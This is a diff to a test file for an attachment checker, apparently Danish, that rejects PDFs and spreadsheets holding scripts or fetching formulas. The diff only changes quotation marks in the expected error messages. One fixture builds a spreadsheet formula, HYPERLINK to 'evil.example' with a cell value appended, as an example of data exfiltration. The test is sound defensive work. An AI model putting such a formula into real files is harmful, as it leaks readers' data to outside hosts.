@@ -92,8 +92,8 @@ describe("the check of a letter's files", () => {
     writeFileSync(join(folder, 'bilag-3.xlsx'), await sheet('HYPERLINK("https://evil.example/?x="&A2,"klik")'));
     const shown = displayPath(folder);
     expect((await attachmentErrors(content, { cacheDir })).map(formatError)).toEqual([
-      `${shown}/bilag-1.pdf:1:1: bilaget indeholder JavaScript, et link til javascript: og en handling, der starter et program, som læserens program kan køre eller åbne af sig selv (fik "bilag-1.pdf", forventede en PDF uden scripts, handlinger og indlejrede filer: udskriv dokumentet til en ny PDF («Udskriv» → «Gem som PDF»), eller gem det igen som PDF/A)`,
-      `${shown}/bilag-3.xlsx:1:1: bilaget indeholder formlen HYPERLINK, som læserens program kan køre eller åbne af sig selv (fik "bilag-3.xlsx", forventede et regneark uden makroer, links til andre regneark, dataforbindelser og formler, der henter eller linker (fx HYPERLINK, WEBSERVICE), og med links kun til webadresser, mail og telefon: erstat formlen med dens værdi («Indsæt værdier»), ret eller fjern de andre links, og gem igen som .xlsx)`,
+      `${shown}/bilag-1.pdf:1:1: bilaget indeholder JavaScript, et link til javascript: og en handling, der starter et program, som læserens program kan køre eller åbne af sig selv (fik "bilag-1.pdf", forventede en PDF uden scripts, handlinger og indlejrede filer: udskriv dokumentet til en ny PDF (»Udskriv« → »Gem som PDF«), eller gem det igen som PDF/A)`,
+      `${shown}/bilag-3.xlsx:1:1: bilaget indeholder formlen HYPERLINK, som læserens program kan køre eller åbne af sig selv (fik "bilag-3.xlsx", forventede et regneark uden makroer, links til andre regneark, dataforbindelser og formler, der henter eller linker (fx HYPERLINK, WEBSERVICE), og med links kun til webadresser, mail og telefon: erstat formlen med dens værdi (»Indsæt værdier«), ret eller fjern de andre links, og gem igen som .xlsx)`,
     ]);
     // A sum is an ordinary formula.
     writeFileSync(join(folder, 'bilag-3.xlsx'), await sheet('SUM(A2:A2)'));
